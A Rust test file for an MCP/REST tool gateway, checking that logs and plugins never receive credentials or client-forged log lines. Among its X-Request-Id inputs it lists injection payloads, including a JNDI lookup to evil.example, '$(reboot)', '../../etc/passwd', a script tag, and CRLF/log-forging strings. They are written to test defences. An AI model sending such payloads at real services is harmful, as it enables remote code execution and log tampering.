//! What is written down, and what plugins get to know: never a credential, never a line that a client has made up.

use insta::assert_snapshot;
use serde_json::json;
use tests::AuthorizationServer;

use super::{ADA, Ask, ECHO, Site, ada, bob, config, echo, guarded};

const CALL: &str = "/tells_who_calls/tools/who";

#[tokio::test]
async fn logs_at_their_most_talkative() {
    let issuer = AuthorizationServer::start(&["greet"]).await;
    let more = format!(
        "[http]\npublic_url = \"https://tools.example.com\"\n[[auth.issuer]]\nurl = {:?}\n",
        issuer.url()
    );
    let config =
        config(&more, &[guarded("greet", "")]).replace("\"debug\"", "\"trace,rmcp=trace,hyper=trace\"");
    let mut site = Site::start(&config).await;
    let forged = "{\\\"level\\\":\\\"INFO\\\",\\\"message\\\":\\\"forged\\\"}";
    let ids = [
        "a b",
        "a\tb",
        "\"},{\"message\":\"forged",
        forged,
        "%0d%0aforged",
        "<script>alert(1)</script>",
        "\u{202e}forged",
        "a".repeat(65).as_str(),
        "../../etc/passwd",
        "$(reboot)",
        "${jndi:ldap://evil.example/a}",
        "",
    ]
    .map(str::to_owned);
    for id in &ids {
        let reply = site.send(echo().by(&ada()).with("x-request-id", id)).await;
        let own = reply.header("x-request-id").unwrap_or_default().to_owned();
        assert_eq!((own.len(), reply.status), (36, Some(200)), "{id} became {own}");
        site.row(&format!("X-Request-Id: {}", id.escape_default().take(36).collect::<String>()), &reply);
    }
    let two = echo().by(&ada()).with("x-request-id", "one").with("x-request-id", "two");
    site.attack("two X-Request-Ids", two).await;
    site.attack("a new line in X-Request-Id", echo().by(&ada()).with("x-request-id", "a\nforged: b")).await;
    let line = "\n{\"message\":\"forged\"}\n";
    let encoded = "%0a%7b%22message%22%3a%22forged%22%7d%0a";
    site.attack("a line as tool, REST", Ask::post(&format!("/greet/tools/{encoded}"), ADA).by(&ada())).await;
    let call = json!({"name": line, "arguments": {}});
    site.attack("a line as tool, MCP", Ask::message("/greet/mcp", "tools/call", call).by(&ada())).await;
    site.attack("a line as method", Ask::message("/greet/mcp", line, json!({})).by(&ada())).await;
    site.attack("a line as path", Ask::get(&format!("/{encoded}")).by(&ada())).await;
    site.attack("a line as host", echo().by(&ada()).but("host", "a\u{85}forged")).await;
    site.attack(
        "a line as version",
        Ask::message("/greet/mcp", "ping", json!({})).by(&ada()).with("mcp-protocol-version", "a\tforged"),
    )
    .await;
    let escape = json!({"userName": "\u{1b}]0;forged\u{7}\u{1b}[2J"}).to_string();
    site.attack("what a terminal acts upon, as argument (good)", Ask::post(ECHO, escape).by(&ada())).await;

    // What is shown in the wrong way, or to the wrong one, is as secret.
    let token = issuer.token("https://tools.example.com/greet", "greet");
    site.attack("a good token (good)", echo().bearer(&token)).await;
    site.attack(
        "a good token, MCP (good)",
        Ask::message("/greet/mcp", "tools/list", json!({})).bearer(&token),
    )
    .await;
    site.attack("a good token at the wrong place", Ask::get("/servers").bearer(&token)).await;
    site.attack("a good token and a key", echo().bearer(&token).api_key(&ada().text)).await;
    site.attack("an expired token", {
        let mut claims = issuer.claims("https://tools.example.com/greet", "greet");
        claims["exp"] = json!(1);
        echo().bearer(&issuer.sign(&claims))
    })
    .await;
    site.attack(
        "a good key, Basic",
        echo().with("authorization", &format!("Basic {}", bob().text)).holds(&bob().text),
    )
    .await;
    site.attack(
        "a good key in the query",
        Ask::post(&format!("{ECHO}?key={}", bob().text), ADA).holds(&bob().text),
    )
    .await;
    site.attack(
        "a good token in the query",
        Ask::post(&format!("{ECHO}?access_token={token}"), ADA).holds(&token),
    )
    .await;
    assert_snapshot!(site.end().await, @r#"
    X-Request-Id: a b                                          | 200 | ok
    X-Request-Id: a\tb                                         | 200 | ok
    X-Request-Id: \"},{\"message\":\"forged                    | 200 | ok
    X-Request-Id: {\\\"level\\\":\\\"INFO\\\",\\\"mess         | 200 | ok
    X-Request-Id: %0d%0aforged                                 | 200 | ok
    X-Request-Id: <script>alert(1)</script>                    | 200 | ok
    X-Request-Id: \u{202e}forged                               | 200 | ok
    X-Request-Id: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa         | 200 | ok
    X-Request-Id: ../../etc/passwd                             | 200 | ok
    X-Request-Id: $(reboot)                                    | 200 | ok
    X-Request-Id: ${jndi:ldap://evil.example/a}                | 200 | ok
    X-Request-Id:                                              | 200 | ok
    two X-Request-Ids                                          | 200 | ok
    a new line in X-Request-Id                                 | 200 | ok
    a line as tool, REST                                       | 404 | unknown_tool
    a line as tool, MCP                                        | 200 | -32602
    a line as method                                           | 200 | -32601
    a line as path                                             | 404 | unknown_path
    a line as host                                             | 403 | host_not_allowed
    a line as version                                          | 400 | -32022
    what a terminal acts upon, as argument (good)              | 200 | ok
    a good token (good)                                        | 200 | ok
    a good token, MCP (good)                                   | 200 | ok
    a good token at the wrong place                            | 401 | unauthorized
    a good token and a key                                     | 401 | unauthorized
    an expired token                                           | 401 | unauthorized
    a good key, Basic                                          | 401 | unauthorized
    a good key in the query                                    | 401 | unauthorized
    a good token in the query                                  | 401 | unauthorized
    "#);
}

#[tokio::test]
async fn arguments() {
    // The MCP library tells arguments at `trace`; it is quiet unless the operator names it.
    let config = config("", &[guarded("greet", "")]).replace("\"debug\"", "\"trace\"");
    let mut site = Site::start(&config).await;
    let secret = "correct-horse-battery-staple";
    site.attack(
        "a secret as argument (good)",
        Ask::post(ECHO, json!({"userName": secret}).to_string()).by(&ada()).holds(secret),
    )
    .await;
    let wrong = json!({"userName": {"password": secret}}).to_string();
    site.attack("a secret in arguments that do not fit", Ask::post(ECHO, wrong).by(&ada()).holds(secret))
        .await;
    let cut = format!("{{\"userName\":\"{secret}");
    site.attack("a secret in a body that breaks off", Ask::post(ECHO, cut).by(&ada()).holds(secret)).await;
    let message = json!({"name": "echoHai", "arguments": {"userName": secret, "password": secret}});
    site.attack(
        "a secret as argument, MCP (good)",
        Ask::message("/greet/mcp", "tools/call", message).by(&ada()).holds(secret),
    )
    .await;
    assert_snapshot!(site.end().await, @r"
    a secret as argument (good)                                | 200 | ok
    a secret in arguments that do not fit                      | 400 | invalid_arguments
    a secret in a body that breaks off                         | 400 | malformed_json
    a secret as argument, MCP (good)                           | 200 | ok
    ");
}

#[tokio::test]
async fn what_plugins_get_to_know() {
    let mut site = Site::start(&config("", &[guarded("greet", ""), guarded("tells_who_calls", "")])).await;
    let text = bob().text;
    let with_all = |ask: Ask| ask.with("cookie", "session=0123456789abcdef").holds("0123456789abcdef");
    let rest = with_all(Ask::post(CALL, "{}").by(&bob()));
    let call = json!({"name": "who", "arguments": {}});
    let asks = [
        ("REST", rest),
        ("REST, X-API-Key", with_all(Ask::post(CALL, "{}").api_key(&text))),
        ("MCP", with_all(Ask::message("/tells_who_calls/mcp", "tools/call", call.clone()).by(&bob()))),
        (
            "MCP, 2026",
            with_all(Ask::modern("/tells_who_calls/mcp", "tools/call", Some("who"), call).by(&bob())),
        ),
        (
            "REST, with a key of another's besides",
            Ask::post(&format!("{CALL}?key={}", ada().text), "{}").by(&bob()).holds(&ada().text),
        ),
    ];
    for (name, ask) in asks {
        let secrets = ask.secrets.clone();
        let reply = site.attack(&format!("what the plugin knows of a call (good), {name}"), ask).await;
        assert!(reply.body.contains("key:bob"), "it knows who calls: {reply:?}");
        for secret in secrets.iter().flat_map(|secret| super::parts(secret)) {
            assert!(!reply.body.contains(secret), "{secret} is known to the plugin: {}", reply.body);
        }
    }
    assert_snapshot!(site.end().await, @r"
    what the plugin knows of a call (good), REST               | 200 | ok
    what the plugin knows of a call (good), REST, X-API-Key    | 200 | ok
    what the plugin knows of a call (good), MCP                | 200 | ok
    what the plugin knows of a call (good), MCP, 2026          | 200 | ok
    what the plugin knows of a call (good), REST, with a key of another's besides | 200 | ok
    ");
}
